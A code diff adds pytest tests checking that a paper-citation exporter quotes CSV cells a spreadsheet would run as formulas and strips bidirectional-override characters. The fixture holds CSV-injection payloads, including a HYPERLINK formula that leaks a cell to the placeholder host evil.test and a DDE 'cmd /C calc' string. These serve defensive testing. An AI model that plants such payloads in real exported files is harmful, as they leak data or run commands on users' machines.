@@ -211,3 +211,47 @@ def test_export_dispatches_every_format(papers: list[Paper]) -> None:
         assert export(papers, fmt)
     with pytest.raises(ValueError, match="choose one of"):
         export(papers, "docx")
+
+
+def _formula_paper() -> Paper:
+    """SYNTHETIC record: every text field a spreadsheet would evaluate (OWASP's CSV-injection cases)."""
+    return Paper(
+        pmid=99999998,
+        title=escape_text('=HYPERLINK("http://evil.test/?leak="&A1,"Ketamine")'),
+        authors=(Author(last_name="@SUM(1+1)", initials="X"), Author(last_name="Smith", initials="J")),
+        journal="+cmd|' /C calc'!A0",
+        volume="-2+3",
+        issue="\t=1+1",
+        pages="\r=1+1",
+        doi="10.1000/x;=1+1",
+        pub_date=PartialDate(year=2024),
+    )
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_text() -> None:
+    text = to_csv([_formula_paper()])
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert row["title"] == "'" + '=HYPERLINK("http://evil.test/?leak="&A1,"Ketamine")'
+    assert row["authors"] == "'@SUM(1+1) X; Smith J"
+    assert row["journal"] == "'+cmd|' /C calc'!A0"
+    assert (row["volume"], row["issue"], row["pages"]) == ("'-2+3", "'\t=1+1", "'\r=1+1")
+    # Quoted cells: a spreadsheet that splits on ";" cannot start a formula cell inside the DOI.
+    assert '"10.1000/x;=1+1"' in text and text.startswith('"pmid","title",')
+    assert row["doi"] == "10.1000/x;=1+1" and row["pmid"] == "99999998"
+
+
+RLO, PDF, FSI = "\u202e", "\u202c", "\u2068"
+
+
+def test_plain_text_exports_drop_bidi_overrides_but_keep_the_letters() -> None:
+    paper = Paper(
+        pmid=99999997,
+        title=escape_text(f"Ketamine {RLO}evil{PDF} infusion{FSI}"),
+        authors=(Author(last_name=f"{RLO}Evil", initials="A"), Author(last_name="Smith", initials="B")),
+        journal=f"{RLO}J Pain",
+        pub_date=PartialDate(year=2024),
+    )
+    for fmt in FORMATS:
+        text = export([paper], fmt)
+        assert not set(text) & {RLO, PDF, FSI}, fmt
+        assert "Ketamine evil infusion" in text and "Evil" in text, fmt
